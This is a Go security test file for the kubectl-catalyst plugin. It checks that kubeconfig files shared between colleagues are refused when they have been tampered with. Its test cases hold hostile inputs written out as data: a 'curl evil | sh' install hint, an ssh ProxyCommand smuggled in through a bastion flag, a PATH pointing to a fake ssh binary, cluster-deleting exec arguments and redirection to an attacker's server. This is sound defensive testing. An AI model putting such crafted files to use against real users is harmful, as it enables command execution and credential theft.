package hostile

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"github.com/catalyst-cloud/kubectl-catalyst/test/sandbox"
)

// sharedFile is what alice makes of a cluster for a colleague.
func sharedFile(t *testing.T, cloud *sandbox.Sandbox, cluster string) string {
	t.Helper()
	return newVictim(t, cloud, "alice").mustCatalyst("login", cluster, "--auth", "keystone", "--output-kubeconfig", "-").stdout
}

// replaceIn replaces what matches a pattern in a file; it must match once at least.
func replaceIn(t *testing.T, file, pattern, text string) string {
	t.Helper()
	re := regexp.MustCompile(pattern)
	if !re.MatchString(file) {
		t.Fatalf("the file has nothing like %s:\n%s", pattern, file)
	}
	return re.ReplaceAllString(file, text)
}

// withArguments replaces the arguments of the exec entry.
func withArguments(t *testing.T, file string, words ...string) string {
	t.Helper()
	lines := ""
	for _, w := range words {
		lines += "      - " + w + "\n"
	}
	return replaceIn(t, file, `(?m)^      args:\n(      - .*\n)+`, "      args:\n"+lines)
}

// redirectTo makes a file lead to a stranger's server.
func redirectTo(t *testing.T, file string, evil *stranger) string {
	t.Helper()
	file = replaceIn(t, file, `server: https://\S+`, "server: "+evil.URL)
	return replaceIn(t, file, `certificate-authority-data: \S+`, "certificate-authority-data: "+base64.StdEncoding.EncodeToString(evil.CA))
}

// withUser replaces the user of a file by another one.
func withUser(t *testing.T, file, body string) string {
	t.Helper()
	return replaceIn(t, file, `(?s)users:\n.*`, "users:\n- name: prod/openstack\n  user: {"+body+"}\n")
}

// A file that wants more than a login needs is refused by name, and nothing is
// written.
func TestSharedFileThatWantsMore(t *testing.T) {
	t.Parallel()
	cloud := startCloud(t, sandbox.Options{})
	good := sharedFile(t, cloud, "prod")
	uuid := regexp.MustCompile(`--cluster=(\S+)`).FindStringSubmatch(good)[1]
	exec := func(from, to string) func(string) string {
		return func(f string) string { return replaceIn(t, f, from, to) }
	}
	for name, c := range map[string]struct {
		file string
		says string
	}{
		"arguments that delete":        {withArguments(t, good, "cluster", "delete", "green", "--yes"), `do not begin with credential`},
		"no arguments":                 {replaceIn(t, good, `(?m)^      args:\n(      - .*\n)+`, ""), "do not begin with credential"},
		"an argument nobody knows":     {withArguments(t, good, "credential", "--cluster="+uuid, "--auth=keystone", "--kubeconfig=/etc/passwd"), "unknown flag: --kubeconfig"},
		"a level of detail":            {withArguments(t, good, "credential", "--cluster="+uuid, "--auth=keystone", "-v=9"), "'v'"},
		"help":                         {withArguments(t, good, "credential", "--help"), "help"},
		"no cache":                     {withArguments(t, good, "credential", "--cluster="+uuid, "--auth=keystone", "--no-cache"), "--no-cache"},
		"a word behind":                {withArguments(t, good, "credential", "--cluster="+uuid, "--auth=keystone", "x"), `"x"`},
		"a bastion that is an option":  {withArguments(t, good, "credential", "--cluster="+uuid, "--auth=keystone", "--bastion=-oProxyCommand=id"), "is not a bastion"},
		"a cluster that is a path":     {withArguments(t, good, "credential", "--cluster=../clusters/x", "--auth=keystone"), "not the UUID"},
		"another way to sign in":       {withArguments(t, good, "credential", "--cluster="+uuid, "--auth=magic"), "neither keystone nor certificate"},
		"another cluster in the entry": {withArguments(t, good, "credential", "--cluster=11111111-2222-4333-8444-555555555555", "--auth=keystone"), "two of one cluster"},
		"variables":                    {exec(`(?m)^      command: kubectl-catalyst$`, "      command: kubectl-catalyst\n      env:\n      - {name: PATH, value: /tmp}")(good), `"PATH" (env)`},
		"another program":              {exec(`command: kubectl-catalyst`, "command: /tmp/kubectl-catalyst")(good), `"/tmp/kubectl-catalyst"`},
		"a shell":                      {exec(`command: kubectl-catalyst`, "command: sh")(good), `"sh"`},
		"a hint of its own":            {exec(`installHint: ".*"`, `installHint: "run curl evil | sh"`)(good), "installHint"},
		"another protocol":             {exec(`client.authentication.k8s.io/v1`, "client.authentication.k8s.io/v1beta1")(good), "apiVersion"},
		"no TLS verification":          {exec(`certificate-authority-data: \S+`, "insecure-skip-tls-verify: true")(good), "insecure-skip-tls-verify"},
		"no CA":                        {exec(`    certificate-authority-data: \S+\n`, "")(good), "CA is not a PEM certificate"},
		"a CA that is none":            {exec(`certificate-authority-data: \S+`, "certificate-authority-data: eHg=")(good), "CA is not a PEM certificate"},
		"a path to a CA":               {exec(`certificate-authority-data: \S+`, "certificate-authority: /etc/ssl/cert.pem")(good), "certificate-authority"},
		"http":                         {exec(`server: https://`, "server: http://")(good), "it is http"},
		"a user in the server":         {exec(`server: https://`, "server: https://me:pw@")(good), "names a user"},
		"a bidirectional host":         {exec(`server: https://\S+`, "server: \"https://a\\u202ezn\"")(good), "not allowed in a URL"},
		"a proxy with a password":      {exec(`    server: `, "    proxy-url: http://a:b@proxy\n    server: ")(good), "proxy-url names a user"},
		"a proxy of another kind":      {exec(`    server: `, "    proxy-url: ftp://proxy\n    server: ")(good), "proxy-url is not a URL"},
		"a TLS name that is none":      {exec(`    server: `, "    tls-server-name: \"a b\"\n    server: ")(good), "tls-server-name"},
		"an invisible name":            {replaceIn(t, good, `"cluster-name": "prod"`, `"cluster-name": "pr\u200bod"`), "invisible"},
		"a token file":                 {withUser(t, good, "tokenFile: /etc/hostname"), "tokenFile"},
		"a key file":                   {withUser(t, good, "client-certificate: a, client-key: b"), "client-certificate"},
		"an auth-provider":             {withUser(t, good, "auth-provider: {name: gcp, config: {cmd-path: id}}"), "auth-provider"},
		"somebody to impersonate":      {withUser(t, good, "token: t, as: root"), "impersonation"},
		"nobody":                       {withUser(t, good, ""), "exactly one credential"},
		"a name without a password":    {withUser(t, good, "username: alice"), "exactly one credential"},
		"several credentials":          {withUser(t, good, "token: t, username: a, password: b"), "exactly one credential"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			alice := newVictim(t, cloud, "alice")
			r := alice.catalyst("login", "--from-file", alice.write("evil.yaml", []byte(c.file)))
			r.wantRefused(t, 1, c.says)
			if _, err := os.Stat(alice.kubeconfig); err == nil {
				t.Error("a kubeconfig was written")
			}
		})
	}
}

// The exec entry is ours whatever the file's was like, and what only the file's
// author needs does not come along.
func TestSharedFileIsWrittenAnew(t *testing.T) {
	t.Parallel()
	cloud := startCloud(t, sandbox.Options{})
	alice := newVictim(t, cloud, "alice")
	good := sharedFile(t, cloud, "prod")
	alice.mustCatalyst("login", "--from-file", alice.write("good.yaml", []byte(good)))
	want := alice.read(alice.kubeconfig)
	odd := replaceIn(t, good, `provideClusterInfo: true`, "provideClusterInfo: false")
	odd = replaceIn(t, odd, `      - credential\n`, "      - credential\n      - --os-cloud=admin\n")
	odd = replaceIn(t, odd, `current-context: prod`, "current-context: elsewhere")
	other := newVictim(t, cloud, "alice")
	other.mustCatalyst("login", "--from-file", other.write("odd.yaml", []byte(odd)))
	if got := other.read(other.kubeconfig); got != want {
		t.Errorf("written:\n%s\nwant:\n%s", got, want)
	}
	if r := alice.kubectl("get", "ns"); r.code != 0 {
		t.Errorf("kubectl: %s", r)
	}
}

func (v *victim) read(path string) string {
	v.t.Helper()
	data, err := os.ReadFile(path)
	must(v.t, err)
	return string(data)
}

// A kubeconfig that never went through a login may start any command of ours.
func TestKubeconfigThatStartsOtherCommands(t *testing.T) {
	t.Parallel()
	cloud := startCloud(t, sandbox.Options{})
	alice := newVictim(t, cloud, "alice")
	good := sharedFile(t, cloud, "prod")
	for _, words := range [][]string{{"cluster", "delete", "green", "--yes"}, {"logout", "--all"}, {"cluster", "list"}, {"__complete", "cluster", "delete", ""}, {"serve-tunnel"}} {
		alice.write("home/.kube/config", []byte(withArguments(t, good, words...)))
		before := len(cloud.Requests())
		if r := alice.kubectl("get", "ns"); r.code == 0 {
			t.Errorf("%q: %s", words, r)
		}
		if n := len(cloud.Requests()); n != before {
			t.Errorf("%q asked the cloud %d times", words, n-before)
		}
	}
	alice.mustCatalyst("cluster", "show", "green")
}

// A file may not change where the logins lead that are there already.
func TestSharedFileDoesNotMoveALogin(t *testing.T) {
	t.Parallel()
	cloud := startCloud(t, sandbox.Options{})
	evil := startTLSStranger(t, nil)
	good := sharedFile(t, cloud, "prod")
	for name, file := range map[string]string{
		"the cluster's UUID": replaceIn(t, redirectTo(t, good, evil), `(name|cluster|user): prod\b`, "$1: other"),
		"its name":           replaceIn(t, redirectTo(t, good, evil), `[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}`, "11111111-2222-4333-8444-555555555555"),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			alice := newVictim(t, cloud, "alice")
			alice.mustCatalyst("login", "prod", "--embed", "--auth", "keystone")
			before := alice.read(alice.kubeconfig)
			r := alice.catalyst("login", "--from-file", alice.write("evil.yaml", []byte(file)), "--no-use")
			r.wantRefused(t, 1, "another")
			if alice.read(alice.kubeconfig) != before {
				t.Error("the kubeconfig was changed")
			}
			alice.kubectl("get", "ns")
			evil.wantSilence(t)
		})
	}
}

// Before a file is taken the person sees where it leads; a pin refuses another
// CA.
func TestFingerprintOfASharedFile(t *testing.T) {
	t.Parallel()
	cloud := startCloud(t, sandbox.Options{})
	evil := startTLSStranger(t, nil)
	alice := newVictim(t, cloud, "alice")
	path := filepath.Join(alice.folder, "prod.yaml")
	print := regexp.MustCompile(`SHA-256 (([0-9A-F]{2}:){31}[0-9A-F]{2})`).FindStringSubmatch(
		alice.mustCatalyst("login", "prod", "--auth", "keystone", "--output-kubeconfig", path).stderr)
	if print == nil {
		t.Fatal("no fingerprint to pass on")
	}
	good := alice.read(path)
	bob := newVictim(t, cloud, "bob")
	bad := bob.write("evil.yaml", []byte(redirectTo(t, good, evil)))
	bob.catalyst("login", "--from-file", bad, "--ca-fingerprint", print[1]).wantRefused(t, 1, evil.fingerprint())
	both := replaceIn(t, good, `certificate-authority-data: (\S+)`, "certificate-authority-data: "+
		base64.StdEncoding.EncodeToString(append(caOf(t, good), evil.CA...)))
	bob.catalyst("login", "--from-file", bob.write("both.yaml", []byte(both)), "--ca-fingerprint", print[1]).wantRefused(t, 1, evil.fingerprint())
	for _, pin := range []string{print[1], strings.ToLower(print[1]), strings.ReplaceAll(print[1], ":", ""), "sha256 Fingerprint=" + print[1]} {
		r := bob.mustCatalyst("login", "--from-file", bob.write("good.yaml", []byte(good)), "--ca-fingerprint", pin)
		if strings.Contains(r.stderr, "warning: only the file") {
			t.Errorf("a pinned file is warned about: %s", r)
		}
	}
	r := newVictim(t, cloud, "bob").mustCatalyst("login", "--from-file", bad)
	for _, want := range []string{evil.URL, evil.fingerprint(), cloud.KeystoneURL[:len(cloud.KeystoneURL)-3], "warning: only the file itself", "--ca-fingerprint"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("%q is not said before the file is taken: %s", want, r)
		}
	}
}

// caOf returns the CA of a file, PEM.
func caOf(t *testing.T, file string) []byte {
	t.Helper()
	ca, err := base64.StdEncoding.DecodeString(regexp.MustCompile(`certificate-authority-data: (\S+)`).FindStringSubmatch(file)[1])
	must(t, err)
	return ca
}

// The same attack with a program that the victim's machine has: nothing of the
// file's environment reaches ssh.
func TestSharedFileRunsNoForeignSSH(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("the stand-in for ssh is a shell script")
	}
	cloud := startCloud(t, sandbox.Options{})
	alice := newVictim(t, cloud, "alice")
	good := sharedFile(t, cloud, "prod")
	mark := filepath.Join(alice.folder, "ran")
	ssh := alice.write("evilbin/ssh", []byte("#!/bin/sh\ntouch "+mark+"\n"))
	must(t, os.Chmod(ssh, 0o700))
	file := replaceIn(t, good, `(?m)^      command: kubectl-catalyst$`, "      command: kubectl-catalyst\n      env:\n      - {name: PATH, value: \""+filepath.Dir(ssh)+":/usr/bin:/bin\"}")
	file = replaceIn(t, file, `      - --auth=keystone\n`, "      - --auth=keystone\n      - --bastion=bastion\n")
	alice.catalyst("login", "--from-file", alice.write("evil.yaml", []byte(file))).wantRefused(t, 1, `"PATH" (env)`)
	alice.kubectl("get", "ns")
	if _, err := os.Stat(mark); err == nil {
		t.Error("the file's ssh ran")
	}
}
